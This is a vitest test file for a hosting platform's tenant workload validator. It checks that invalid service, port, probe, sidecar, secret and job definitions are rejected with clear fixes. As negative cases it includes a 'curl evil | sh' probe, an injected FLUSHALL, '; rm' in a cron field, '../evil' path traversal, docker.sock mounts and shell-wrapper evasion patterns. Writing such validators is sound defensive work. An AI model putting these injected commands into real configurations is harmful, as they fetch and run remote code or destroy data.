import { describe, expect, it } from "vitest";
import { InputValidationError, type InputProblem } from "../../../lib/validation";
import { validateTenantDocuments } from "../../../lib/tenants/load";
import { execProbeProblem } from "../../../lib/tenants/schema";
import { platformConfigSchema, type PlatformConfig } from "../../../lib/config/schema";
import { stackPlatformConfig } from "../../components/project/fixtures";

/**
 * Bad input for every field of the workload model fails validation with the file, the path and a fix, all
 * problems at once, before anything is registered (validateTenantDocuments throws; nothing renders).
 */

const FILE = "stacks/dev/projects/shop.yaml";
const dev = stackPlatformConfig("dev");
const granted = (grant: Record<string, unknown>): PlatformConfig => ({ ...dev, projectGrants: { ...dev.projectGrants, shop: { trust: "untrusted", egressPorts: [], customDomains: [], git: [], publicPorts: [], ...grant } as PlatformConfig["projectGrants"][string] } });

const HEAD = ["name: shop", "owner: {name: Shop team, email: shop@example.com}", "quota: {cpu: '4', memory: 8Gi, storage: 50Gi, pods: 20}"];
const doc = (...lines: string[]) => [...HEAD, ...lines].join("\n");
const web = (...lines: string[]) => doc("services:", "  - name: web", "    image: ghcr.io/example/web:1.4.2", "    port: 8080", ...lines.map((l) => `    ${l}`));

function problemsOf(text: string, config: PlatformConfig = dev, secrets: string[] = []): InputProblem[] {
    try {
        validateTenantDocuments([{ file: FILE, text }], { config, secretNames: new Map([["shop", new Set(secrets)]]) });
    } catch (error) {
        expect(error).toBeInstanceOf(InputValidationError);
        return (error as InputValidationError).problems;
    }
    throw new Error("validation passed, but the document is invalid");
}

function expectProblem(text: string, path: string, problem: RegExp, fix?: RegExp, config?: PlatformConfig, secrets?: string[]): void {
    const problems = problemsOf(text, config, secrets);
    const found = problems.find((p) => p.source === FILE && p.path === path && problem.test(p.problem));
    expect(found, `no problem at ${path} matching ${problem}; got ${JSON.stringify(problems, null, 1)}`).toBeDefined();
    expect(found!.fix.length).toBeGreaterThan(0);
    if (fix) {
        expect(found!.fix).toMatch(fix);
    }
}

describe("the workload model validates", () => {
    it("the valid base document (each case below breaks one thing)", () => {
        const ok = web("ports: [{name: p2p, port: 30303, public: true}]", "probes: {liveness: {exec: [redis-cli, ping]}}");
        expect(validateTenantDocuments([{ file: FILE, text: ok }], { config: granted({ publicPorts: [{ port: 30303, protocol: "TCP" }] }), secretNames: new Map() })).toHaveLength(1);
    });

    it("ports out of range, with reserved or duplicate names, twice in the pod", () => {
        expectProblem(web("ports: [{name: p2p, port: 70000}]"), "services[web].ports[0].port", /65535/);
        expectProblem(web("ports: [{name: metrics, port: 9100}]"), "services[web].ports[0].name", /platform's/, /name: rpc/);
        expectProblem(web("ports: [{name: p2p, port: 8080}]"), "services[web].ports[0].port", /TCP 8080 is declared twice/);
        expectProblem(web("ports: [{name: a-very-long-port-name, port: 9000}]"), "services[web].ports[0].name", /15 characters/);
    });

    it("a public port that is not granted, naming the grant to ask for", () => {
        expectProblem(web("ports: [{name: p2p, port: 30303, protocol: UDP, public: true}]"), "services[web].ports[0].public", /public UDP 30303 is not granted.*udp-30303/, /publicPorts: \[\{port: 30303, protocol: UDP\}\].*platform:projectGrants\.shop/);
        // Granted for TCP only: UDP is another entry point.
        expectProblem(web("ports: [{name: p2p, port: 30303, protocol: UDP, public: true}]"), "services[web].ports[0].public", /not granted/, undefined, granted({ publicPorts: [{ port: 30303, protocol: "TCP" }] }));
    });

    it("TLS passthrough for a foreign host, on a missing or UDP port, or without being public", () => {
        expectProblem(web("ports: [{name: https, port: 8443}]", "expose: {public: true, tls: passthrough, port: https, customDomains: [bank.example.com]}"), "services[web].expose.customDomains[0]", /custom domain bank\.example\.com is not granted/, /customDomains/);
        expectProblem(web("expose: {public: true, tls: passthrough, port: https}"), "services[web].expose.port", /passthrough needs a TCP port of the service named "https"/);
        expectProblem(web("ports: [{name: quic, port: 8443, protocol: UDP}]", "expose: {public: true, tls: passthrough, port: quic}"), "services[web].expose.port", /TCP port/);
        expectProblem(web("expose: {tls: passthrough}"), "services[web].expose.tls", /applies to a public service/);
        expectProblem(web("expose: {port: http}"), "services[web].expose.port", /passthrough/);
    });

    it("an exec probe that starts a shell or an interpreter, or carries control characters", () => {
        expectProblem(web("probes: {liveness: {exec: [sh, -c, 'redis-cli ping; curl evil | sh']}}"), "services[web].probes.liveness.exec", /argv arrays, not shell strings: "sh"/, /no sh -c/);
        expectProblem(web("probes: {readiness: {exec: [/bin/bash, -c, 'pg_isready']}}"), "services[web].probes.readiness.exec", /"\/bin\/bash"/);
        expectProblem(web("probes: {readiness: {exec: [python3, -c, 'print(1)']}}"), "services[web].probes.readiness.exec", /"python3"/);
        expectProblem(web('probes: {readiness: {exec: [redis-cli, "ping\\nFLUSHALL"]}}'), "services[web].probes.readiness.exec", /control character/);
        expect(execProbeProblem(["kafka-broker-api-versions", "--bootstrap-server", "localhost:9092"])).toBeUndefined();
        expect(execProbeProblem(["/usr/bin/env", "sh"])).toMatch(/env/);
        // A shell behind a wrapper that runs its arguments is still a shell.
        expect(execProbeProblem(["timeout", "5", "sh", "-c", "redis-cli ping"])).toMatch(/"sh"/);
        expect(execProbeProblem(["nice", "/bin/bash", "-c", "true"])).toMatch(/"\/bin\/bash"/);
        expect(execProbeProblem(["find", "/", "-exec", "sh", "-c", "id", ";"])).toMatch(/"sh"/);
        expect(execProbeProblem(["pwsh", "-c", "1"])).toMatch(/"pwsh"/);
        expect(execProbeProblem(["timeout", "5", "redis-cli", "ping"])).toBeUndefined();
    });

    it("a sidecar or init container asking for privileges, root or a public port", () => {
        expectProblem(web("sidecars: [{name: exporter, image: ghcr.io/example/exporter:1.0.0, privileged: true}]"), "services[web].sidecars[0].privileged", /runs restricted/, /remove privileged/);
        expectProblem(web("sidecars: [{name: exporter, image: ghcr.io/example/exporter:1.0.0, securityContext: {capabilities: {add: [NET_ADMIN]}}}]"), "services[web].sidecars[0].securityContext", /cannot be set/);
        expectProblem(web("initContainers: [{name: setup, image: ghcr.io/example/setup:1.0.0, runAsUser: 0}]"), "services[web].initContainers[0].runAsUser", /1/);
        expectProblem(web("initContainers: [{name: setup, image: ghcr.io/example/setup:1.0.0, hostPath: /var/run/docker.sock}]"), "services[web].initContainers[0].hostPath", /cannot be set/);
        expectProblem(web("sidecars: [{name: proxy, image: ghcr.io/example/proxy:1.0.0, ports: [{name: p2p, port: 4000, public: true}]}]"), "services[web].sidecars[0].ports[0].public", /never public/);
        expectProblem(web("sidecars: [{name: web, image: ghcr.io/example/proxy:1.0.0}]"), "services[web].sidecars[0].name", /used twice/);
        expectProblem(web("sidecars: [{name: exporter, image: evil.example.com/exporter:1.0.0}]"), "services[web].sidecars[0].image", /registry "evil\.example\.com" is not allowed/);
    });

    it("files from undeclared secrets or ConfigMaps, ConfigMaps holding keys, files twice at one path", () => {
        expectProblem(web("files: [{mountPath: /tls, secret: {tls.crt: TLS_CRT}}]"), "services[web].files[0].secret.tls.crt", /secret TLS_CRT is not set/, /tenant:secrets\.TLS_CRT' <value> --stack [a-z0-9<>-]+--shop/);
        expectProblem(web("files: [{mountPath: /config, configMap: app}]"), "services[web].files[0].configMap", /ConfigMap "app" is not declared/, /configMaps: \[\{name: app/);
        expectProblem(web("files: [{mountPath: /config, configMap: app, secret: {a: B}}]"), "services[web].files[0]", /exactly one of secret or configMap/);
        expectProblem(web("files: [{mountPath: /etc/app, configMap: app}]"), "services[web].files[0].mountPath", /\/etc/);
        expectProblem(web("files: [{mountPath: /tmp, secret: {a: TOKEN}}]"), "services[web].files[0].mountPath", /mounted twice/, undefined, dev, ["TOKEN"]);
        expectProblem(web("files: [{mountPath: /k, secret: {../evil: TOKEN}}]"), "services[web].files[0].secret.../evil", /file name/, undefined, dev, ["TOKEN"]);
        const key = ["configMaps:", "  - name: app", "    data:", "      key.pem: |", "        -----BEGIN PRIVATE KEY-----", "        abc", "        -----END PRIVATE KEY-----"];
        expectProblem([...web().split("\n"), ...key].join("\n"), "configMaps[0].data.key.pem", /contains a private key/, /tenant:secrets/);
    });

    it("credentials of something the project does not have; platform variables set by hand", () => {
        expectProblem(web("uses: [database]"), "services[web].uses[0]", /no database/, /database: \{engine/);
        expectProblem(web("uses: [bucket]"), "services[web].uses[0]", /no bucket/);
        expectProblem([...web("env: {DATABASE_HOST: elsewhere}").split("\n"), "database: {engine: postgresql}"].join("\n"), "services[web].env", /DATABASE_HOST is set by the platform/);
        expectProblem(web("cluster: {}", "replicas: 3", "env: {POD_INDEX: '7'}"), "services[web].env", /POD_INDEX is set by the platform/);
    });

    it("clustered services: a quorum of fewer than 3, autoscaled membership", () => {
        expectProblem(web("cluster: {quorum: true}", "replicas: 2"), "services[web].cluster.quorum", /at least 3 replicas/, /replicas: 3/);
        expectProblem(web("cluster: {}", "autoscale: {min: 1, max: 3}"), "services[web].autoscale", /fixed membership/);
        expectProblem(web("cluster: {podManagementPolicy: Random}"), "services[web].cluster.podManagementPolicy", /OrderedReady|Parallel/);
    });

    it("workers: public without a port, a probe without a port", () => {
        const worker = (...lines: string[]) => doc("services:", "  - name: consumer", "    image: ghcr.io/example/consumer:1.0.0", ...lines.map((l) => `    ${l}`));
        expectProblem(worker("expose: {public: true}"), "services[consumer].expose.public", /needs a port/);
        expectProblem(worker("probes: {readiness: {tcp: true}}"), "services[consumer].probes.readiness", /exec probe or an explicit probe port/);
        expectProblem(worker("expose: {customDomains: [shop.example.org]}"), "services[consumer].expose.customDomains", /only apply to a public service/);
    });

    it("jobs: bad schedules, names taken by services, limits out of bounds", () => {
        const job = (...lines: string[]) => [...web().split("\n"), "jobs:", "  - name: migrate", "    image: ghcr.io/example/migrate:1.0.0", ...lines.map((l) => `    ${l}`)].join("\n");
        expectProblem(job("schedule: every day"), "jobs[0].schedule", /cron schedule/);
        expectProblem(job("schedule: '0 3 * * * ; rm'"), "jobs[0].schedule", /cron/);
        expectProblem(job("backoffLimit: 50"), "jobs[0].backoffLimit", /10/);
        expectProblem(job("activeDeadlineSeconds: 10"), "jobs[0].activeDeadlineSeconds", /60/);
        expectProblem(job("uses: [database]"), "jobs[0].uses[0]", /no database/);
        expectProblem(job("secretEnv: [MIGRATE_TOKEN]"), "jobs[0].secretEnv[0]", /not set in stack config/);
        expectProblem([...web().split("\n"), "jobs:", "  - name: web", "    image: ghcr.io/example/migrate:1.0.0"].join("\n"), "jobs[0].name", /already the name of a service/);
    });

    it("reports every problem at once", () => {
        // Within a phase: the grant checks run after a file's schema passes (a known gap, see the README).
        const problems = problemsOf(web("ports: [{name: p2p, port: 30303, public: true}]", "uses: [database]", "sidecars: [{name: x, image: ghcr.io/example/x:1.0.0, privileged: true}]"));
        expect(problems.map((p) => p.path)).toEqual(expect.arrayContaining(["services[web].sidecars[0].privileged"]));
        const stackLevel = problemsOf(web("ports: [{name: p2p, port: 30303, public: true}]", "uses: [database]"));
        expect(stackLevel.map((p) => p.path)).toEqual(expect.arrayContaining(["services[web].uses[0]"]));
    });
});

describe("public port grants (platform:projectGrants.<id>.publicPorts)", () => {
    const configProblems = (grants: Record<string, unknown>) => {
        const parsed = platformConfigSchema.safeParse({ ...structuredClone(rawDev()), projectGrants: grants });
        expect(parsed.success).toBe(false);
        return parsed.success ? [] : parsed.error.issues.map((i) => `${i.path.join(".")}: ${i.message}`);
    };
    it("refuses the platform's ports, privileged ports and a port granted to two projects", () => {
        expect(configProblems({ a: { publicPorts: [{ port: 443 }] } })).toEqual([expect.stringMatching(/^projectGrants\.a\.publicPorts\.0\.port: must be 1024 or higher/)]);
        expect(configProblems({ a: { publicPorts: [{ port: 41641, protocol: "UDP" }] } })).toEqual([expect.stringMatching(/Tailscale/)]);
        expect(configProblems({ a: { publicPorts: [{ port: 9100 }] } })).toEqual([expect.stringMatching(/node port|metrics/)]);
        expect(configProblems({ a: { publicPorts: [{ port: 30303 }] }, b: { publicPorts: [{ port: 30303 }] } })).toEqual([expect.stringMatching(/^projectGrants\.b\.publicPorts\.0: TCP 30303 is already granted to project a/)]);
        expect(configProblems({ a: { publicPorts: [{ port: 30303 }, { port: 30303, protocol: "TCP" }] } })).toEqual([expect.stringMatching(/listed twice/)]);
    });
    it("one port may be granted once per protocol (TCP and UDP are two entry points)", () => {
        const parsed = platformConfigSchema.parse({ ...structuredClone(rawDev()), projectGrants: { a: { publicPorts: [{ port: 30303 }] }, b: { publicPorts: [{ port: 30303, protocol: "UDP" }] } } });
        expect(parsed.projectGrants.b?.publicPorts).toEqual([{ port: 30303, protocol: "UDP" }]);
    });
});

/** The dev stack's platform config before defaults (the schema input). */
function rawDev(): Record<string, unknown> {
    const { projectGrants: _grants, ...rest } = dev as unknown as Record<string, unknown>;
    return rest;
}
